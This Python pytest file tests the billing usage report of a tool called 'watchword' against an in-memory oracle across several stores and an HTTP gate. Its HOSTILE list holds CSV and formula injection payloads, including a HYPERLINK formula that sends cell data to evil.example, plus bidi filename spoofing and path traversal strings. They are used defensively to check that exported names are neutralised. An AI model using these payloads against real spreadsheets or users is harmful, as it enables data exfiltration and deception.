# SPDX-License-Identifier: Apache-2.0
"""The report that people bill from equals the sums that were kept outside, through every store and a gate."""

from __future__ import annotations

import csv
import itertools
import json
import random
import time
import tracemalloc
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from testing.clickhouse_server import ClickHouseServer
from testing.gate_process import Gate, running_gate, write_bundle
from testing.manifests import issuer, service, workload
from testing.postgres_server import PostgresServer
from testing.usage_samples import envelope, events
from tests.gate.certificates import certificate, write_pair
from tests.gate.test_process import token
from tests.memory import MIB, bound_of, memory_of
from tests.usage.oracle import Oracle
from watchword.cli.main import watchword
from watchword.cli.usage.report_sources import ReportFailed, StoreSource
from watchword.usage import Dimension, Meter, UsageQuery, open_store
from watchword.usage.groups import group_values
from watchword.usage.report import disarmed, period_state, rows

BYTES = Meter("bytes", "cache.hit", "sum", "/bytes", (Dimension("project", "/project"),))
METERS = (
    BYTES,
    Meter("hits", "cache.hit", "count"),
    Meter("largest", "cache.hit", "max", "/bytes"),
    Meter("users", "cache.hit", "unique_count", "/user"),
)
SPECS = [
    {"name": m.name, "eventType": m.event_type, "aggregation": m.aggregation}
    | ({"value": m.value} if m.value else {})
    | ({"unit": "bytes"} if m.name == "bytes" else {})
    | ({"groupBy": [{"name": d.name, "value": d.value} for d in m.group_by]} if m.group_by else {})
    for m in METERS
]
START, END = date(2026, 2, 1), date(2026, 3, 1)
MONTH = "2026-02"
# What spreadsheets run, what CSV must quote, what terminals obey, and what sorts otherwise than its bytes.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "＝1",
    " =1",
    "'quoted",
    'a,"b";c',
    "ä",
    "\N{GRINNING FACE}",
    "\uff5e",
    "\u202egnp.exe",
    "a b",
    "/../%2F?#",
]
_NUMBERS = itertools.count()


@pytest.fixture(
    params=[
        "sqlite",
        pytest.param("postgresql", marks=pytest.mark.postgresql),
        pytest.param("clickhouse", marks=pytest.mark.clickhouse),
    ]
)
def server(request: pytest.FixtureRequest) -> PostgresServer | ClickHouseServer | None:
    if request.param == "sqlite":
        return None
    found: PostgresServer | ClickHouseServer = request.getfixturevalue(
        "postgres" if request.param == "postgresql" else "clickhouse"
    )
    return found


def place(server: PostgresServer | ClickHouseServer | None, folder: Path) -> str:
    """The DSN of a store that no one had."""
    name = f"report_{next(_NUMBERS)}"
    return f"sqlite:///{folder}/{name}.db" if server is None else server.dsn(name)


def report(*arguments: str) -> Result:
    return CliRunner().invoke(watchword, ["usage", "report", *arguments], prog_name="watchword")


def read(text: str) -> list[dict[str, str]]:
    """The rows of a CSV, names as they were before they were made safe."""
    found = list(csv.DictReader(text.splitlines(keepends=True)))
    for row in found:
        row["account"] = row["account"].removeprefix("'")
    return found


def fill(dsn: str, sent: list[dict[str, Any]], size: int = 1000) -> Oracle:
    """Store events, and keep them outside as well."""
    oracle = Oracle()
    with closing(open_store(dsn)) as store:
        for start in range(0, len(sent), size):
            batch = events(*sent[start : start + size])
            store.ingest(batch, METERS)
            oracle.ingest(batch, METERS)
    return oracle


def assert_equals_outside(found: list[dict[str, str]], oracle: Oracle) -> None:
    """Every account and meter has one row, in order, with the amount that was kept outside."""
    accounts = sorted({account for account, _, _ in oracle.events}, key=str.encode)
    assert [(row["account"], row["meter"]) for row in found] == [
        (account, meter.name) for account in accounts for meter in METERS
    ]
    for row in found:
        expected = oracle.totals(row["account"], START, END, METERS)
        assert expected is not None
        assert Fraction(row["amount"]) == expected[row["meter"]]
        assert (row["start"], row["end"]) == ("2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z")


# Both edges of the month, to the microsecond, written in any zone; and a leap year's day is none of 2026's.
EDGES = [
    datetime(2026, 2, 1, tzinfo=UTC),
    datetime(2026, 3, 1, tzinfo=UTC),
    datetime(2026, 2, 14, 12, tzinfo=UTC),
]
MOMENTS = st.builds(
    lambda edge, shift, minutes: (
        (edge + timedelta(microseconds=shift)).astimezone(timezone(timedelta(minutes=minutes))).isoformat()
    ),
    st.sampled_from(EDGES),
    st.sampled_from([-3_600_000_000, -1, 0, 1, 3_600_000_000]),
    st.integers(-14 * 60, 14 * 60),
)
AMOUNTS = st.decimals(Decimal("-1e6"), Decimal("1e15"), places=9, allow_nan=False, allow_infinity=False)
EVENTS = st.lists(
    st.builds(
        lambda number, account, when, amount, user, project: envelope(
            id=f"e{number}",
            subject=account,
            time=when,
            data={"bytes": amount, "user": user, "project": project},
        ),
        st.integers(0, 40),  # few: many are replays, some with other amounts
        st.sampled_from(["acme", "umbrella", *HOSTILE[:4]]),
        MOMENTS,
        AMOUNTS,
        st.sampled_from(["u1", "u2", "u3"]),
        st.sampled_from(["ios", "web", None]),
    ),
    min_size=1,
    max_size=60,
)


def test_any_month_equals_the_sums_that_were_kept_outside(
    server: PostgresServer | ClickHouseServer | None, tmp_path: Path
) -> None:
    examples = 40 if server is None else 12 if isinstance(server, PostgresServer) else 5

    @settings(
        max_examples=examples,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(EVENTS, st.integers(1, 20))
    def holds(sent: list[dict[str, Any]], size: int) -> None:
        dsn = place(server, tmp_path)
        # Late ones come last and out of order, and the first batch comes again.
        oracle = fill(dsn, [*sent, *sent[:size]], size)
        done = report("--month", MONTH, "-o", "csv", "--usage-dsn", dsn)
        assert done.exit_code == 0, done.output
        assert_equals_outside(read(done.stdout), oracle)
        split = report("--month", MONTH, "-o", "csv", "--usage-dsn", dsn, "--group-by", "project")
        parts = [row for row in read(split.stdout) if row["part"] == "group"]
        for row in parts:
            expected = oracle.split(row["account"], START, END, BYTES, "project")
            value = None if row["project"] == "null" else row["project"]
            assert Fraction(row["amount"]) == expected[json.dumps([value])]
        whole = [row for row in read(split.stdout) if row["part"] == "total"]
        assert_equals_outside(whole, oracle)
        for row in whole:
            if row["meter"] == "bytes":
                mine = [Fraction(p["amount"]) for p in parts if p["account"] == row["account"]]
                assert sum(mine, Fraction(0)) == Fraction(row["amount"])

    holds()


def month_of_many(accounts: int) -> list[dict[str, Any]]:
    chance = random.Random(accounts)
    return [
        envelope(
            id=f"{number}-{account}",
            subject=f"{HOSTILE[account % len(HOSTILE)]}{account}",
            time=f"2026-0{chance.choice([1, 2, 2, 2, 3])}-{chance.randrange(1, 29):02}T23:59:59.999999Z",
            data={
                "bytes": Decimal(chance.randrange(-(10**6), 10**15)) / 10**6,
                "user": f"u{chance.randrange(3)}",
                "project": f"p{account % 3}",
            },
        )
        for account in range(accounts)
        for number in range(2)
    ]


def gate_on(
    folder: Path,
    dsn: str,
    accounts: list[str],
    limits: dict[str, Any] | None = None,
    *flags: str,
    **usage: object,
) -> Any:
    grants = [{"scopes": ["account:usage:read"], "accounts": accounts}]
    spec = {"usage": {"meters": SPECS, **usage}} | ({"limits": limits} if limits else {})
    objects = (issuer(), service(**spec), workload(grants=grants))
    (folder / "token").write_bytes(token())
    return running_gate(write_bundle(folder / "bundle.json", *objects), "--usage-dsn", dsn, *flags)


def through(gate: Gate, folder: Path, *arguments: str) -> Result:
    flags = ("--gate", gate.url, "--token-file", str(folder / "token"))
    return report("--month", MONTH, *flags, *arguments)


def peak_of(*arguments: str) -> int:
    """The most bytes of Python objects that a report took at once."""
    tracemalloc.start()
    try:
        done = report(*arguments)
        assert done.exit_code == 0, done.output
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_ten_thousand_accounts_equal_what_was_kept_outside_in_bounded_memory(tmp_path: Path) -> None:
    few, many = place(None, tmp_path), place(None, tmp_path)
    fill(few, month_of_many(400))
    oracle = fill(many, month_of_many(10_000))
    flags = ("--month", MONTH, "--usage-dsn")
    report(*flags, few, str(tmp_path / "warm.csv"))
    small = peak_of(*flags, few, str(tmp_path / "few.csv"))
    large = peak_of(*flags, many, str(tmp_path / "many.csv"))
    assert large < small + MIB
    text = (tmp_path / "many.csv").read_text()
    assert len(text) > 2 * MIB
    # One pass over the events for each account is an hour: the same sums, by account at once.
    by_account: dict[str, Oracle] = {}
    for key, event in oracle.events.items():
        by_account.setdefault(event.account, Oracle()).events[key] = event
    found = read(text)
    assert len(found) == 40_000
    for row in found:
        expected = by_account[row["account"]].totals(row["account"], START, END, METERS)
        assert expected is not None
        assert Fraction(row["amount"]) == expected[row["meter"]]

    with gate_on(tmp_path, many, ["*"], lateDays=1) as gate:
        gate_flags = ("--gate", gate.url, "--token-file", str(tmp_path / "token"))
        asked = peak_of("--month", MONTH, *gate_flags, str(tmp_path / "asked.csv"))
        assert memory_of(gate.pid).peak < bound_of("gate")
    assert asked < small + 4 * MIB
    # Units and the bound of late events are what a gate knows more.
    as_asked = read((tmp_path / "asked.csv").read_text())
    assert [row | {"unit": "", "state": "late"} for row in as_asked] == found
    assert {(row["meter"], row["unit"]) for row in as_asked if row["unit"]} == {("bytes", "bytes")}
    assert {row["state"] for row in as_asked} == {"closed"}


def test_a_gate_reports_what_its_store_does(
    server: PostgresServer | ClickHouseServer | None, tmp_path: Path
) -> None:
    dsn = place(server, tmp_path)
    oracle = fill(dsn, month_of_many(250))
    flags = ("--unit", "bytes=bytes", "--late-days", "3", "-o", "csv")
    with gate_on(tmp_path, dsn, ["*"], lateDays=3) as gate:
        for more in ((), ("--group-by", "project")):
            direct = report("--month", MONTH, "--usage-dsn", dsn, *flags, *more)
            asked = through(gate, tmp_path, "-o", "csv", *more)
            assert (direct.exit_code, asked.exit_code) == (0, 0), asked.output
            assert asked.stdout == direct.stdout
            assert asked.stderr == direct.stderr
            if not more:
                assert_equals_outside(read(asked.stdout), oracle)


def test_accounts_with_more_groups_than_an_answer_has_are_asked_for_a_few_at_a_time(tmp_path: Path) -> None:
    dsn = place(None, tmp_path)
    sent = [
        envelope(
            id=f"{project}",
            subject=f"a{account:03}",
            time="2026-02-03T00:00:00Z",
            data={"bytes": 1, "user": 1, "project": f"p{project}"},
        )
        for account in range(100)
        for project in range(101)  # 10,100 groups, 100 more than one answer may have, and one overflows
    ]
    fill(dsn, sent)
    flags = ("-o", "csv", "--group-by", "project")
    with gate_on(tmp_path, dsn, ["*"]) as gate:
        asked = through(gate, tmp_path, *flags)
    assert asked.exit_code == 0, asked.output
    direct = report("--month", MONTH, "--usage-dsn", dsn, "--unit", "bytes=bytes", *flags)
    assert asked.stdout == direct.stdout
    found = read(asked.stdout)
    assert sum(1 for row in found if row["part"] == "group") == 10_000
    assert sum(1 for row in found if row["part"] == "overflow") == 100
    assert len({row["account"] for row in found}) == 100


def test_a_gate_that_says_later_is_asked_again(tmp_path: Path) -> None:
    dsn = place(None, tmp_path)
    fill(dsn, month_of_many(700))
    limits = {"requestsPerSecond": 2, "burst": 2}
    with gate_on(tmp_path, dsn, ["*"], limits) as gate:
        asked = through(gate, tmp_path, "-o", "csv")
    assert asked.exit_code == 0, asked.output
    assert "it answers 429 rate_limited; waiting" in asked.stderr
    direct = report("--month", MONTH, "--usage-dsn", dsn, "--unit", "bytes=bytes", "-o", "csv")
    assert asked.stdout == direct.stdout


def test_a_gates_certificate_is_checked_at_once_and_by_the_ca_that_is_given(tmp_path: Path) -> None:
    dsn = place(None, tmp_path)
    fill(dsn, month_of_many(3))
    certificate_file, key = write_pair(tmp_path, certificate("gate"))
    tls = ("--tls-cert", str(certificate_file), "--tls-key", str(key))
    with gate_on(tmp_path, dsn, ["*"], None, *tls) as gate:
        url = gate.url.replace("http:", "https:")
        flags = ("--month", MONTH, "--gate", url, "--token-file", str(tmp_path / "token"), "-o", "csv")
        trusted = report(*flags, "--ca-file", str(certificate_file))
        assert trusted.exit_code == 0, trusted.output
        stranger = report(*flags)
    assert stranger.exit_code == 2
    assert "--ca-file" in stranger.stderr
    assert "waiting" not in stranger.stderr


def test_meters_that_change_in_between_end_the_report(
    server: PostgresServer | ClickHouseServer | None, tmp_path: Path
) -> None:
    dsn = place(server, tmp_path)
    fill(dsn, month_of_many(150))
    with closing(open_store(dsn)) as store:
        pages = StoreSource(store, {}, None).pages(UsageQuery("any", START, END))
        assert len(next(pages)) == 100
        store.use_meters([*METERS[1:], Meter("bytes", "cache.hit", "max", "/bytes")])
        with pytest.raises(ReportFailed, match="meters changed"):
            list(pages)


@pytest.fixture
def gate(tmp_path: Path) -> Iterator[Gate]:
    dsn = place(None, tmp_path)
    fill(dsn, month_of_many(5))
    with gate_on(tmp_path, dsn, [f"{HOSTILE[1]}1", f"{HOSTILE[3]}3"]) as gate:
        yield gate


def test_a_token_for_some_accounts_is_no_report_of_all(gate: Gate, tmp_path: Path) -> None:
    done = through(gate, tmp_path, "-o", "csv")
    assert (done.exit_code, done.stdout) == (1, "")
    assert "--only-granted" in done.stderr
    refused = through(gate, tmp_path, str(tmp_path / "all.csv"))
    assert refused.exit_code == 1
    assert not list(tmp_path.glob("*all.csv*")), "a file was left behind"
    some = through(gate, tmp_path, "-o", "csv", "--only-granted")
    assert some.exit_code == 0
    assert {row["account"] for row in read(some.stdout)} == {f"{HOSTILE[1]}1", f"{HOSTILE[3]}3"}


def test_what_a_gate_refuses_is_said_with_its_reason(gate: Gate, tmp_path: Path) -> None:
    (tmp_path / "token").write_bytes(token(aud=["other"]))
    done = through(gate, tmp_path)
    assert done.exit_code == 1
    assert "wrong_audience" in done.stderr
    (tmp_path / "token").unlink()
    assert through(gate, tmp_path).exit_code == 2
    assert report("--month", MONTH, "--gate", f"{gate.ops_url}/metrics").exit_code == 2


def test_a_gate_that_is_away_is_waited_for_and_then_said(tmp_path: Path) -> None:
    (tmp_path / "token").write_bytes(token())
    flags = ("--token-file", str(tmp_path / "token"), "--wait-seconds", "3")
    done = report("--month", MONTH, "--gate", "http://127.0.0.1:9", *flags)
    assert done.exit_code == 1
    assert "waiting" in done.stderr
    assert "--wait-seconds" in done.stderr


@pytest.mark.parametrize(
    ("day", "late_days", "state"),
    [
        ("2026-02-28T23:59:59Z", 0, "open"),
        ("2026-03-01T00:00:00Z", 0, "closed"),
        ("2026-03-01T00:00:00Z", 1, "late"),
        ("2026-03-01T23:59:59Z", 1, "late"),
        ("2026-03-02T00:00:00Z", 1, "closed"),
        ("2030-01-01T00:00:00Z", None, "late"),
    ],
)
def test_a_month_is_closed_when_no_event_of_it_is_taken(day: str, late_days: int | None, state: str) -> None:
    from testing.usage_samples import batched
    from watchword.usage import parse_events

    now = datetime.fromisoformat(day).timestamp()
    assert period_state(END, now, late_days) == state
    assert batched([envelope()], now)  # the parser that the bound below is asked of
    body = json.dumps(envelope(time="2026-02-28T23:59:59.999999Z")).encode()
    headers = [(b"content-type", b"application/cloudevents+json")]
    [taken] = parse_events(body, headers, now, late_days=late_days)  # type: ignore[misc]
    assert (type(taken).__name__ == "Event") == (state != "closed")


@given(st.text(max_size=12))
def test_a_name_made_safe_is_found_again(name: str) -> None:
    safe = disarmed(name)
    assert safe in {name, f"'{name}"}
    assert safe.removeprefix("'") == name or not safe.startswith("'")
    assert not safe.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@given(st.lists(st.one_of(st.none(), st.booleans(), st.text(max_size=4), st.integers(-9, 99)), min_size=2))
def test_two_values_of_a_dimension_are_never_one_text(values: list[Any]) -> None:
    from watchword.usage import UsageAnswer
    from watchword.usage.strict_json import json_of_trusted, read_trusted

    texts = {json_of_trusted([read_trusted(json.dumps(value))]) for value in values if _is_text(value)}
    groups = {"bytes": {text: Decimal(1) for text in texts}}
    query = UsageQuery("a", START, END, group_by=("project",))
    answer = UsageAnswer({"bytes": Decimal(len(texts))}, groups=groups)
    found = [row[3] for row in rows(query, "a", answer, [BYTES], "closed") if row[4] == "group"]
    assert len(found) == len(set(found)) == len(texts)
    assert "" not in found
    assert all(len(group_values(text)) == 1 for text in texts)


def _is_text(value: object) -> bool:
    return not isinstance(value, str) or value.isprintable()


def test_the_clock_of_these_tests_is_past_the_month() -> None:
    assert datetime.fromtimestamp(time.time(), UTC).date() > END
